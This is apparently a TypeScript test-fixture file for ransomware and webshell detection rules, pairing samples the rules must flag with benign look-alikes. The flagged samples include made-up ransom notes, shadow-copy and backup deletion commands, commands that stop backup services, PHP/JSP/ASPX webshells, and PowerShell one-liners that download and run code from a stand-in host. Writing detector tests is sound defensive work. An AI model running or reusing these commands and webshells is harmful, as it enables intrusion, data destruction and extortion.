/**
 * Made texts that each starter rule has to find, and texts that only talk about such things. All of them are our own
 * wording, harmless, and lead nowhere: addresses and keys do not exist. `·` stands for a space, and
 * code is joined, so that this file is not found itself.
 */

const ONION = `${'abcdefgh234567ij'.repeat(3)}abcdefgh.onion`;
const BASE64 = Buffer.from('a'.repeat(300)).toString('base64');

const spaced = (text: string): string => text.replaceAll('·', ' ');

/** By the rule that has to find them. */
export const BAD_SAMPLES: Readonly<Record<string, readonly string[]>> = mapped(
  (samples) => samples.map(spaced),
  {
    Ransom_Note_Encrypted_Files: [
      `!!!·ATTENTION·!!!

All·your·important·files·have·been·encrypted!
There·is·only·one·way·to·decrypt·your·files:·to·buy·our·decryption·tool.·The·price·depends·on·how·fast·you·write.
Payment·is·accepted·in·Bitcoin.·You·can·decrypt·1·file·for·free·as·a·proof.

1.·Download·Tor·Browser
2.·Open·http://${ONION}/
Your·personal·ID:·7G2K-000
Do·not·rename·encrypted·files,·or·they·will·be·lost·forever.
`,
      `What·happened·to·my·files?
We·have·encrypted·all·of·your·databases·and·backups.·To·recover·your·data·you·need·our·private·key.
Write·to·us:·helper@protonmail.example·and·send·2·small·files,·free·decryption·as·guarantee.
If·you·do·not·pay·in·time,·the·price·will·be·doubled.·Don't·try·to·decrypt·it·yourself.
`,
      `Your·network·has·been·penetrated.
All·files·on·each·host·have·been·locked·with·a·strong·algorithm.·Backups·were·either·encrypted·or·deleted.
We·exclusively·have·decryption·software·for·your·situation.
DO·NOT·RENAME·OR·MOVE·the·encrypted·and·readme·files.
To·get·info,·contact·us·at:·someone@tutanota.example
BTC·wallet:·on·request
`,
    ],
    Ransom_Note_Data_Theft: [
      `Dear·management,
we·have·downloaded·400·GB·of·your·data:·contracts,·personnel·files,·customers.
If·you·do·not·contact·us·within·three·days,·we·will·publish·it·on·our·leak·site.
Use·Tor·Browser:·http://${ONION}/chat
`,
      `Your·confidential·data·was·exfiltrated.·We·offer·negotiations.
In·case·you·refuse,·it·will·be·sold,·and·shall·be·posted·on·our·blog.·We·will·disclose·everything.
Tox·ID:·0000000000000000
`,
    ],
    Ransom_Note_Bitcoin_Demand: [
      `All·your·data·is·backed·up·by·us.·You·must·pay·0.05·BTC·to·1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2·to·recover·your·lost·databases.`,
    ],
    Destroys_Recovery_Script: [
      '@echo·off\r\nvssadmin.exe·delete·shadows·/all·/quiet\r\nbcdedit·/set·{default}·recoveryenabled·No\r\n',
      'cmd.exe·/c·"wmic·shadowcopy·delete\nwbadmin·delete·catalog·-quiet\n',
      'vssadmin·Delete·Shadows·/All·/Quiet·&·bcdedit.exe·/set·{default}·bootstatuspolicy·ignoreallfailures',
      'Get-WmiObject·Win32_Shadowcopy·|·ForEach-Object·{$_.Delete();}\nwbadmin·DELETE·SYSTEMSTATEBACKUP·-deleteOldest\n',
    ],
    Destroys_Recovery_Program: [
      `MZ\0\0\0${'\0'.repeat(500)}vssadmin.exe·Delete·Shadows·/All·/Quiet\0bcdedit·/set·{default}·recoveryenabled·No\0`,
    ],
    Stops_Backup_Services: [
      [
        'VeeamBackupSvc',
        'VeeamTransportSvc',
        'BackupExecAgentBrowser',
        'AcronisAgent',
        'GxVss',
        'SQLWriter',
        'swprv',
      ]
        .map((service) => `net·stop·"${service}"·/y`)
        .join('\r\n'),
    ],
    Destroys_Backup_Repository: [
      '#!/bin/bash\nunset·HISTFILE\nzfs·destroy·-r·-f·tank/data\nrm·-rf·/mnt/backups/*\nrestic·-r·/srv·forget·--tag·x·--keep-last·0·--prune\n',
      '#!/bin/sh\nesxcli·vm·process·kill·--type=force·--world-id=1\nvim-cmd·vmsvc/snapshot.removeall·1\nrm·-rf·/var/log/*\n',
    ],
    Webshell_PHP: [
      ['<?php @ev', 'al($_PO', 'ST["x"]); ?>'].join(''),
      ['<?php sys', 'tem ( $_GE', "T['c'] );"].join(''),
      ['<?php $a = 1; ev', 'al(gzinfl', `ate(base64_decode("${BASE64}")));`].join(''),
      ['<?= `{$_REQ', "UEST['c']}` ?>"].join(''),
      ['<?php $_GE', "T['f']($_PO", "ST['a']);"].join(''),
    ],
    Webshell_JSP: [
      [
        '<%@ page import="java.io.*" %><% Runtime.getRun',
        'time().exec(request.getPara',
        'meter("c")); %>',
      ].join(''),
      [
        '<%! class U extends Class',
        'Loader { Class g(byte[] b) { return defineCl',
        'ass(b, 0, b.length); } } %><% request.getRead',
        'er(); %>',
      ].join(''),
    ],
    Webshell_ASPX: [
      ['<%@ Page Language="Jscript"%><%ev', 'al(Request.It', 'em["x"],"unsafe");%>'].join(''),
      [
        '<%@ Page Language="C#" %><% var p = new ProcessStart',
        'Info("cmd.e',
        'xe", "/c " + Request.Fo',
        'rm["c"]); Process.St',
        'art(p); %>',
      ].join(''),
      ['<% Set o = CreateObject("WScript.Sh', 'ell") : o.Ex', 'ec(Request.QueryStr', 'ing("c")) %>'].join(''),
    ],
    PowerShell_Encoded_Command: [
      `powershell.exe -NoP -w hidden -enc ${BASE64}`,
      `cmd /c start pwsh -ExecutionPolicy Bypass -EncodedCommand "${BASE64}"`,
    ],
    PowerShell_Download_And_Run: [
      [
        'powershell -nop -w hidden -c "I',
        'EX (New-Object Net.WebClient).DownloadStr',
        "ing('http://192.0.2.1/a')\"",
      ].join(''),
      [
        'powershell -ep bypass -c (New-Object Net.WebClient).DownloadStr',
        "ing('http://192.0.2.1/a') | I",
        'EX',
      ].join(''),
      ['pwsh -NonInteractive -WindowStyle Hidden i', 'ex (iwr http://192.0.2.1/a)'].join(''),
    ],
  },
);

/** By what they are. */
export const QUOTING_SAMPLES: Readonly<Record<string, string>> = mapped(spaced, {
  'a guide to detecting ransomware': `#·Detecting·ransomware

Attackers·often·run·\`vssadmin·delete·shadows·/all·/quiet\`·and·\`bcdedit·/set·{default}·recoveryenabled·no\`·before
they·encrypt.·Detection:·alert·on·both·within·a·minute·(MITRE·T1490).

\`\`\`
vssadmin·delete·shadows·/all·/quiet
bcdedit·/set·{default}·recoveryenabled·no
\`\`\`
`,
  'a news article': `The·hospital·said·its·files·were·encrypted·on·Monday.·The·attackers·demanded·a·payment·in·bitcoin,
and·threatened·that·the·data·would·be·published.·Experts·advise·against·paying.·The·group·runs·a·leak·site·that·can·be
reached·with·Tor·Browser.·Recovery·tools·may·help·some·victims·to·decrypt·their·files.`,
  'a help page of a backup product': `To·restore·your·files,·choose·a·snapshot.·If·your·files·have·been·encrypted·by·you
with·a·password,·enter·the·decryption·key.·Contact·us·if·you·need·help:·support@example.com.·The·price·of·the·business
plan·includes·support.`,
  'a shop that takes bitcoin': `Pay·with·Bitcoin:·send·the·amount·in·BTC·to·the·address·shown·at·checkout.·Contact·us·by
e-mail.·We·will·restore·your·account·and·your·data·within·one·day.`,
  'an administrator who removes one old shadow copy': `@echo·off
rem·free·some·space·on·D:·before·the·monthly·job
vssadmin·delete·shadows·/for=D:·/oldest
echo·done
`,
  'an administrator who restarts services after an update': `net·stop·VeeamBackupSvc
net·start·VeeamBackupSvc
net·stop·SQLWriter
net·start·SQLWriter
`,
  'a prune job': `#!/bin/sh
restic·forget·--keep-daily·7·--keep-weekly·5·--prune
rm·-rf·/srv/backups/tmp
logger·"pruned"
`,
  'PHP that handles a form': `<?php
$name·=·htmlspecialchars($_POST['name']);
if·(isset($_GET['id']))·{·$row·=·$db->query('SELECT·*·FROM·t·WHERE·id·=·'·.·(int)·$_GET['id']);·}
exec('/usr/bin/convert·in.png·out.jpg');
echo·base64_decode($row['text']);
`,
  'an ASP.NET page': `<%@·Page·Language="C#"·%><%·var·id·=·Request.QueryString["id"];·Response.Write(Server.HtmlEncode(id));·%>`,
  'a JSP page': `<%@·page·contentType="text/html"·%><%·String·q·=·request.getParameter("q");·%><c:out·value="\${q}"/>`,
  'how to install a package manager': `Set-ExecutionPolicy·Bypass·-Scope·Process·-Force;·powershell·-NoProfile·-c·iex·((New-Object
System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))`,
  'a scheduled task of an administrator': `powershell.exe·-NoProfile·-ExecutionPolicy·Bypass·-File·C:\\scripts\\backup.ps1`,
});

function mapped<Before, After>(
  change: (value: Before) => After,
  samples: Readonly<Record<string, Before>>,
): Readonly<Record<string, After>> {
  return Object.fromEntries(Object.entries(samples).map(([name, value]) => [name, change(value)]));
}
